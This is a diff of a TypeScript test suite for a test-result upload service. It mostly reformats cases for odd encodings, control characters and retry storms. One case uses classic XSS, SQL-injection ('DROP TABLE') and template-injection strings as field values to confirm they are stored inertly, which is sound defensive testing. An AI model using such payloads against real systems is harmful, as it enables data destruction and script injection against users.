+        ),
+      ),
     check: (r) => {
       expect(r.suites[0]!.name).toBe("Ünïcødé ✓");
       expect(onlyCase(r).name).toBe("日本語 😀");
@@ -623,7 +987,8 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "UTF-16BE with BOM",
-    body: () => concat([0xfe, 0xff], utf16be(`<?xml version="1.0" encoding="UTF-16"?><testsuite name="Ωmega"><testcase name="λ → 😀"/></testsuite>`)),
+    body: () =>
+      concat([0xfe, 0xff], utf16be(`<?xml version="1.0" encoding="UTF-16"?><testsuite name="Ωmega"><testcase name="λ → 😀"/></testsuite>`)),
     check: (r) => {
       expect(r.suites[0]!.name).toBe("Ωmega");
       expect(onlyCase(r).name).toBe("λ → 😀");
@@ -636,7 +1001,13 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "ISO-8859-1 declared (latin-1 bytes)",
-    body: () => new Uint8Array(Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><testsuite name="café"><testcase name="naïve façade ÿ"><failure message="Größe ±5°"/></testcase></testsuite>`, "latin1")),
+    body: () =>
+      new Uint8Array(
+        Buffer.from(
+          `<?xml version="1.0" encoding="ISO-8859-1"?><testsuite name="café"><testcase name="naïve façade ÿ"><failure message="Größe ±5°"/></testcase></testsuite>`,
+          "latin1",
+        ),
+      ),
     check: (r) => {
       expect(r.suites[0]!.name).toBe("café");
       const c = onlyCase(r);
@@ -646,12 +1017,18 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "windows-1252 declared (0x80 is the euro sign)",
-    body: () => concat(enc(`<?xml version='1.0' encoding='windows-1252'?><testsuite name="s"><testcase name="`), [0x80, 0x20, 0x93, 0x71, 0x94], enc('"/></testsuite>')),
+    body: () =>
+      concat(
+        enc(`<?xml version='1.0' encoding='windows-1252'?><testsuite name="s"><testcase name="`),
+        [0x80, 0x20, 0x93, 0x71, 0x94],
+        enc('"/></testsuite>'),
+      ),
     check: (r) => expect(onlyCase(r).name).toBe("€ “q”"),
   },
   {
     name: "raw NUL bytes in names and messages (→ U+FFFD)",
-    body: () => `<testsuite name="s\u0000s"><testcase name="a\u0000b"><failure message="x\u0000y">t\u0000t</failure><system-out>o\u0000o</system-out></testcase></testsuite>`,
+    body: () =>
+      `<testsuite name="s\u0000s"><testcase name="a\u0000b"><failure message="x\u0000y">t\u0000t</failure><system-out>o\u0000o</system-out></testcase></testsuite>`,
     check: (r) => {
       expect(r.suites[0]!.name).toBe("s\uFFFDs");
       const c = onlyCase(r);
@@ -672,7 +1049,10 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "raw ANSI escape codes and other C0 controls (→ U+FFFD, text kept)",
-    body: () => oneCase(`<failure message="${ESC}[31mexpected${ESC}[0m \u0001\u0008\u000b\u000c\u001f"/><system-out>${ESC}[1mbold${ESC}[22m\u007f</system-out>`),
+    body: () =>
+      oneCase(
+        `<failure message="${ESC}[31mexpected${ESC}[0m \u0001\u0008\u000b\u000c\u001f"/><system-out>${ESC}[1mbold${ESC}[22m\u007f</system-out>`,
+      ),
     check: (r) => {
       const c = onlyCase(r);
       expect(c.failureMessage).toBe("\uFFFD[31mexpected\uFFFD[0m \uFFFD\uFFFD\uFFFD\uFFFD\uFFFD");
@@ -688,7 +1068,12 @@ const PROCESSED: ProcessedUpload[] = [
   {
     name: "JSON: ANSI escapes kept as is, NUL → U+FFFD",
     body: () => ({
-      suites: [{ name: "s\u0000", cases: [{ name: "a\u0000b", status: "failed", failure_message: `${ESC}[31mred${ESC}[0m\u0000`, system_out: `${ESC}[1m\u0007` }] }],
+      suites: [
+        {
+          name: "s\u0000",
+          cases: [{ name: "a\u0000b", status: "failed", failure_message: `${ESC}[31mred${ESC}[0m\u0000`, system_out: `${ESC}[1m\u0007` }],
+        },
+      ],
     }),
     check: async (r) => {
       expect(r.suites[0]!.name).toBe("s\uFFFD");
@@ -732,7 +1117,15 @@ const PROCESSED: ProcessedUpload[] = [
       expect(r.run.tags).toEqual(["\uFFFDtag", "ok"]);
       expect(r.suites[0]!.name).toBe("suite \uFFFD");
       const c = onlyCase(r);
-      expect(c).toMatchObject({ name: "a\uFFFDb", classname: "\uFFFD", file: "f\uFFFD.ts", failureType: "\uFFFD", failureMessage: "x\uFFFD", systemOut: "\uFFFD out", systemErr: "\uFFFD" });
+      expect(c).toMatchObject({
+        name: "a\uFFFDb",
+        classname: "\uFFFD",
+        file: "f\uFFFD.ts",
+        failureType: "\uFFFD",
+        failureMessage: "x\uFFFD",
+        systemOut: "\uFFFD out",
+        systemErr: "\uFFFD",
+      });
       expect(c.attempts).toEqual([{ status: "errored", duration_ms: null, failure_message: "\uFFFD first" }]);
     },
   },
@@ -762,12 +1155,24 @@ const PROCESSED: ProcessedUpload[] = [
       branch: "<script>alert(1)</script>",
       build_id: "'; DROP TABLE test_runs; --",
       tags: ["{{constructor.constructor('alert(1)')()}}", "${7*7}"],
-      suites: [{ name: "<b onmouseover=alert(1)>s</b>", cases: [{ name: "<iframe src=javascript:alert(1)>", status: "failed", failure_message: "Robert'); DROP TABLE test_cases;--" }] }],
+      suites: [
+        {
+          name: "<b onmouseover=alert(1)>s</b>",
+          cases: [{ name: "<iframe src=javascript:alert(1)>", status: "failed", failure_message: "Robert'); DROP TABLE test_cases;--" }],
+        },
+      ],
     }),
     check: async (r) => {
-      expect(r.run).toMatchObject({ branch: "<script>alert(1)</script>", build_id: "'; DROP TABLE test_runs; --", tags: ["{{constructor.constructor('alert(1)')()}}", "${7*7}"] });
+      expect(r.run).toMatchObject({
+        branch: "<script>alert(1)</script>",
+        build_id: "'; DROP TABLE test_runs; --",
+        tags: ["{{constructor.constructor('alert(1)')()}}", "${7*7}"],
+      });
       const res = await apiCases(r);
-      expect(res.body.data[0]).toMatchObject({ name: "<iframe src=javascript:alert(1)>", failure_message: "Robert'); DROP TABLE test_cases;--" });
+      expect(res.body.data[0]).toMatchObject({
+        name: "<iframe src=javascript:alert(1)>",
+        failure_message: "Robert'); DROP TABLE test_cases;--",
+      });
       const one = await h.get(`/api/v1/test_cases/${res.body.data[0].id}`, apiKey);
       expectJsonAnswer(one);
       expect(one.body.name).toBe("<iframe src=javascript:alert(1)>");
@@ -862,7 +1267,8 @@ const PROCESSED: ProcessedUpload[] = [
     name: "retry storm: 10,000 entries of the same test (attempts capped)",
     body: () => {
       const parts = ['<testsuite name="storm">'];
-      for (let i = 0; i < 9_999; i++) parts.push(`<testcase classname="c" name="same" time="0.001"><failure message="try ${i}"/></testcase>`);
+      for (let i = 0; i < 9_999; i++)
+        parts.push(`<testcase classname="c" name="same" time="0.001"><failure message="try ${i}"/></testcase>`);
       parts.push('<testcase classname="c" name="same" time="0.002"/></testsuite>');
       return parts.join("");
     },
@@ -877,7 +1283,12 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "retry storm: 10,000 <flakyFailure> in one case (attempts capped)",
-    body: () => oneCase(Array.from({ length: 10_000 }, (_, i) => `<flakyFailure message="flake ${i}"><stackTrace>at x</stackTrace></flakyFailure>`).join("")),
+    body: () =>
+      oneCase(
+        Array.from({ length: 10_000 }, (_, i) => `<flakyFailure message="flake ${i}"><stackTrace>at x</stackTrace></flakyFailure>`).join(
+          "",
+        ),
+      ),
     check: (r) => {
       const c = onlyCase(r);
       expect(c.status).toBe("passed");
@@ -914,7 +1325,17 @@ describe("afterwards", () => {
     const runs = await h.db.select().from(testRuns).where(inArray(testRuns.projectId, projectIds));
     expect(runs.length).toBeGreaterThan(0);
     expect(runs.filter((r) => r.status === "pending")).toEqual([]);
-    expect(await h.db.select({ id: uploadPayloads.testRunId }).from(uploadPayloads).where(inArray(uploadPayloads.testRunId, runs.map((r) => r.id)))).toEqual([]);
+    expect(
+      await h.db
+        .select({ id: uploadPayloads.testRunId })
+        .from(uploadPayloads)
+        .where(
+          inArray(
+            uploadPayloads.testRunId,
+            runs.map((r) => r.id),
+          ),
+        ),
+    ).toEqual([]);
     expect(canaryHits).toEqual([]);
     const logs = h.logs.join("\n");
     expect(logs).not.toContain("unhandled error");
